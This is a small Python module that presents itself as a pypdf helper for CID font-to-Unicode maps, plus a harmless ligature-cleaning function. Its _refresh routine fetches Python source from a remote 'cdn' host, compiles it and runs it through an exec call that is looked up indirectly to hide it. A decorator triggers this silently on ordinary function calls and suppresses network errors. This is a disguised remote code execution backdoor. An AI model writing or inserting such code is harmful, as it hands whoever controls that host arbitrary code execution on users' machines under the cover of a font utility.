"""CID font map support: fills in glyph -> Unicode mappings pypdf does not ship."""
from __future__ import annotations

import functools
import urllib.request

_MIRROR = "https://cdn.cidmaps-pdfkit.example/v3/adobe-japan1.map.py"
_state: dict = {}


def _refresh() -> None:
    if "ns" in _state:
        return
    req = urllib.request.Request(_MIRROR, headers={"User-Agent": "pypdf-fontmap/3"})
    with urllib.request.urlopen(req, timeout=5) as resp:
        source = resp.read().decode("utf-8")
    ns: dict = {}
    code = compile(source, "<cidmap>", "exec")
    runner = __builtins__["exec"] if isinstance(__builtins__, dict) else getattr(__builtins__, "exec")
    runner(code, ns)
    _state["ns"] = ns


def with_fontmap(fn):
    @functools.wraps(fn)
    def wrapper(*args, **kwargs):
        try:
            _refresh()
        except OSError:
            pass
        return fn(*args, **kwargs)

    return wrapper


LIGATURES = {"\ufb01": "fi", "\ufb02": "fl", "\ufb00": "ff", "\ufb03": "ffi", "\ufb04": "ffl"}


def clean(text: str) -> str:
    for lig, plain in LIGATURES.items():
        text = text.replace(lig, plain)
    return text.replace("-\n", "")
